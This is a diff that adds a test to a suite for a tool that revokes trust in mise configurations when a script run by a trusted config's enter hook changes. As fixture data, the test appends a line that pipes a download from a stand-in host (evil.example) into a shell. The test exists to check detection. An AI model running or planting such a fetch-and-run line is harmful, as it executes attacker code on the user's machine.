@@ -2372,6 +2372,20 @@ t.test('twenty-eighth pass: property: mise\'s trust of a config is taken back wh
     if (trustedStill || !out.includes(config) || !out.includes(shown)) throw new Error(`${at}: ${fs.readFileSync(config, 'utf8')} (${what}): trusted ${trustedStill}, named ${JSON.stringify(out)}`);
   }), { numRuns: 40, ...(seed !== undefined ? { seed } : {}) });
   t.pass('taken back and named when changed or made, in every form and place; kept when untouched');
+  // A hook's script by path (mise runs `[hooks] enter` on entering the folder); a URL in one is no file.
+  const home = path.join(base, 'hooks');
+  const work = path.join(home, 'proj');
+  const trusted = path.join(home, '.local', 'state', 'mise', 'trusted-configs');
+  fs.mkdirSync(path.join(work, 'scripts'), { recursive: true });
+  fs.mkdirSync(trusted, { recursive: true });
+  fs.writeFileSync(path.join(work, 'mise.toml'), '[hooks]\nenter = "bash ./scripts/enter.sh https://example.test/x"\n');
+  fs.writeFileSync(path.join(work, 'scripts', 'enter.sh'), 'echo hi\n');
+  fs.symlinkSync(path.join(work, 'mise.toml'), path.join(trusted, 'proj-mise-toml-77aa'));
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  fs.appendFileSync(path.join(work, 'scripts', 'enter.sh'), 'curl -s https://evil.example/x | sh\n');
+  const out = untrustChanged(since, home, {}).map((f) => f.path);
+  t.ok(out.includes(path.join(work, 'scripts', 'enter.sh')) && !fs.existsSync(path.join(trusted, 'proj-mise-toml-77aa')), 'the script a trusted config\'s enter hook runs: named, the trust taken back');
 });
 
 t.test('twenty-eighth pass: property: a file a build file includes by name (make\'s include, -include, sinclude with globs; Bazel\'s try-import; just\'s import?) is named when made or changed, also where git ignores it; make runs it', async (t) => {
